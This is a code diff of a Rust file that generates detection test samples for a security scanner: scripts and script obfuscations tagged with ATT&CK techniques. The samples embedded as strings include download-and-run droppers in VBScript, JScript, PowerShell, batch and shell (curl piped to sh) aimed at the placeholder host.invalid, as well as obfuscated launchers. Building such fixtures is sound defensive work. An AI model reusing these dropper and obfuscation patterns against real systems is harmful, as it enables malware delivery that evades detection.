@@ -1,7 +1,7 @@
 //! A6, A7, C24: scripts, and scripts in disguise.
 
-use crate::build::{base64, eicar, program, utf16, zip};
 use crate::Standin;
+use crate::build::{base64, eicar, program, utf16, zip};
 
 const SCRIPTS: &str = "detect/scripts";
 
@@ -15,8 +15,12 @@ const ENCODED_VBS: &str = "#@~^AAAAAA==/M+CD+}4L\x7fmDcJq?^DbwO Ut+^sJ*RI!U~J1l^
 
 pub(super) fn all() -> Vec<Standin> {
     let script = |name, what, text: &str| Standin::new("A6", SCRIPTS, name, what, text.as_bytes().to_vec()).blocked();
-    let encoded = format!("powershell.exe -NoProfile -enc {}\r\n", base64(&utf16("Write-Host hello from the stand-in")));
-    let jar = zip::of(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n"), ("A.class", &program::class())]);
+    let encoded =
+        format!("powershell.exe -NoProfile -enc {}\r\n", base64(&utf16("Write-Host hello from the stand-in")));
+    let jar = zip::of(&[
+        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n"),
+        ("A.class", &program::class()),
+    ]);
     let download = "Set request = CreateObject(\"MSXML2.XMLHTTP\")\r\nrequest.Open \"GET\", \"http://host.invalid/a\", False\r\nrequest.Send\r\nSet stream = CreateObject(\"ADODB.Stream\")\r\nstream.Type = 1\r\nstream.Open\r\nstream.Write request.responseBody\r\nstream.SaveToFile \"a.exe\", 2\r\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\r\n";
     let mut all = vec![
         script("a.js", "a script of the script host", JS).kind("js").technique("T1059.007"),
@@ -32,11 +36,11 @@ pub(super) fn all() -> Vec<Standin> {
         Standin::new("A6", SCRIPTS, "a.jar", "a Java archive", jar).kind("jar").blocked(),
         Standin::new("A6", "formats/script", "a.jse", "an encoded JScript", ENCODED_JS.into()).kind("jse").technique("T1059.007").blocked(),
         Standin::new("A6", "formats/script", "a.vbe", "an encoded VBScript", ENCODED_VBS.into()).kind("vbe").technique("T1059.005").blocked(),
-        Standin::new("A7", SCRIPTS, "get.vbs", "a VBScript that downloads, writes and runs", download.into()).technique("T1105").malicious().blocked(),
+        Standin::new("A7", SCRIPTS, "get.vbs", "a VBScript that downloads, writes and runs", download.into()).technique("T1105").suspicious().blocked(),
         Standin::new("A7", SCRIPTS, "get.ps1", "a PowerShell that downloads and runs", b"$u = 'http://host.invalid/a.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n".to_vec()).technique("T1105").blocked(),
         Standin::new("A7", SCRIPTS, "get.bat", "a batch file that downloads and runs", b"@echo off\r\ncertutil -urlcache -split -f http://host.invalid/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n".to_vec()).technique("T1105").blocked(),
         Standin::new("A7", SCRIPTS, "get.sh", "a shell script that pipes the network into a shell", b"#!/bin/sh\ncurl -s https://host.invalid/a | sh\n".to_vec()).technique("T1105").blocked(),
-        Standin::new("A7", SCRIPTS, "get.js", "a JScript that downloads, writes and runs", b"var r = new ActiveXObject('MSXML2.XMLHTTP');\r\nr.open('GET', 'http://host.invalid/a', false);\r\nr.send();\r\nvar s = new ActiveXObject('ADODB.Stream');\r\ns.Type = 1; s.Open(); s.Write(r.responseBody);\r\ns.SaveToFile('a.exe', 2);\r\nnew ActiveXObject('WScript.Shell').Run('a.exe');\r\n".to_vec()).technique("T1105").malicious().blocked(),
+        Standin::new("A7", SCRIPTS, "get.js", "a JScript that downloads, writes and runs", b"var r = new ActiveXObject('MSXML2.XMLHTTP');\r\nr.open('GET', 'http://host.invalid/a', false);\r\nr.send();\r\nvar s = new ActiveXObject('ADODB.Stream');\r\ns.Type = 1; s.Open(); s.Write(r.responseBody);\r\ns.SaveToFile('a.exe', 2);\r\nnew ActiveXObject('WScript.Shell').Run('a.exe');\r\n".to_vec()).technique("T1105").suspicious().blocked(),
     ];
     let disguised = |name, what, bytes: Vec<u8>| Standin::new("C24", SCRIPTS, name, what, bytes).blocked();
     let joined: String = base64(&eicar());
@@ -45,7 +49,7 @@ pub(super) fn all() -> Vec<Standin> {
         disguised("wide.vbs", "a VBScript in UTF-16 without a mark", utf16(VBS)).kind("vbs").technique("T1059.005"),
         disguised("case.vbs", "a VBScript in mixed case", b"sEt ShElL = cReAtEoBjEcT(\"wScRiPt.ShElL\")\r\nsHeLl.RuN \"calc.exe\"\r\nWsCrIpT.qUiT\r\n".to_vec()).technique("T1059.005"),
         disguised("split.vbs", "a VBScript of split strings", b"Dim s\r\nSet s = CreateObject(\"WScr\" & \"ipt.S\" & \"hell\")\r\ns.Run \"ca\" & \"lc\"\r\nWScript.Quit\r\n".to_vec()).technique("T1059.005"),
-        disguised("codes.vbs", "a VBScript of character codes", format!("Dim s\r\nSet s = CreateObject({})\r\ns.Run \"calc\"\r\nWScript.Quit\r\n", "WScript.Shell".bytes().map(|byte| format!("Chr({byte})")).collect::<Vec<_>>().join(" & ")).into()).technique("T1027.010"),
+        disguised("codes.vbs", "a VBScript of character codes", format!("Dim s\r\nSet s = CreateObject({})\r\ns.Run \"calc\"\r\nWScript.Quit\r\n", "WScript.Shell".bytes().map(|byte| format!("Chr({byte})")).collect::<Vec<_>>().join(" & ")).into()).technique("T1059.005"),
         disguised("carets.bat", "a batch file with carets", b"@e^c^h^o off\r\np^o^w^e^r^s^h^e^l^l -w hidden -c Write-Host hello\r\n".to_vec()).technique("T1059.001"),
         disguised("slices.bat", "a batch file of slices of the environment", b"@echo off\r\nset a=abcdefghijklmnopqrstuvwxyz\r\n%a:~2,1%%a:~0,1%%a:~11,1%%a:~2,1%\r\n%a:~4,1%%a:~2,1%%a:~7,1%%a:~14,1% %a:~7,1%%a:~4,1%%a:~11,1%%a:~11,1%%a:~14,1%\r\n".to_vec()).technique("T1027.010"),
         disguised("comments.js", "a JScript broken by comments", b"var s = new/*a*/ActiveXObject('WScr'/*b*/+'ipt.Shell');\r\ns/*c*/.Run('calc');\r\nWScript.Quit();\r\n".to_vec()).technique("T1059.007"),
